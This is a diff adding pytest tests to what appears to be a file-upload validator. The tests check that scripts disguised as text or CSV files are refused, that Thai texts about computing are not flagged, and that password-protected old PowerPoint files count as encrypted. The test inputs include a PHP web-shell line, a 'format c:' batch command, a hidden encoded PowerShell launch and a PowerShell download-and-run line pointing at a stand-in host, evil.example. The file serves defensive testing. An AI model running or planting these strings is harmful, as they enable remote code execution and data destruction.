@@ -218,3 +218,47 @@ def test_a_file_of_libreoffice_is_looked_through(tmp_path: Path, body: str, more
 )
 def test_lines_that_excel_takes_for_commands_are_found(tmp_path: Path, said: str, found: set[FaultKind]) -> None:
     assert faults(read(tmp_path, "a.csv", said.encode())) == found
+
+
+# --- scripts under the names of texts -----------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "ประกาศ\n" * 3000 + "<?php system($_GET[0]);",
+        "ประกาศ\n" * 3000 + "<script src=x>",
+        'Set s = CreateObject("WScript.Shell")\ns.Run "calc"',
+        "new ActiveXObject('WScript.Shell').Run('calc')",
+        "@echo off\r\nformat c:",
+        "REM ก\r\n@ECHO OFF\r\ncalc",
+        "powershell.exe -nop -w hidden -enc AAAA",
+        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example')",
+        "Windows Registry Editor Version 5.00\r\n",
+        "[InternetShortcut]\r\nURL=file://evil.example/a",
+        "%!PS-Adobe-3.0\n(x) run",
+    ],
+)
+def test_a_script_is_refused_under_the_name_of_a_text(tmp_path: Path, said: str) -> None:
+    for name in ("a.txt", "a.csv"):
+        assert FaultKind.FORBIDDEN_TYPE in faults(read(tmp_path, name, said.encode()))
+
+
+@pytest.mark.parametrize(
+    "said",
+    [
+        "การใช้งาน PowerShell เบื้องต้น (หลักสูตรอบรม)",
+        "หัวข้อ: script การแสดง, echo เสียงสะท้อน",
+        "1. php 2. java 3. python",
+        "ดู <https://www.obec.go.th>",
+    ],
+)
+def test_a_text_about_computers_is_no_script(tmp_path: Path, said: str) -> None:
+    assert faults(read(tmp_path, "a.txt", said.encode())) == set()
+
+
+def test_an_old_presentation_with_a_password_is_encrypted(tmp_path: Path) -> None:
+    for token, found in ((0xF3D1C4DF, {ENCRYPTED}), (0xE391C05F, set())):
+        user = struct.pack("<LHHLL", 0x0FF60000, 20, 0, 20, token)
+        made = ole_file.write(tmp_path / "made", {"PowerPoint Document": b"", "Current User": user}).read_bytes()
+        assert faults(read(tmp_path, "a.ppt", made)) == found
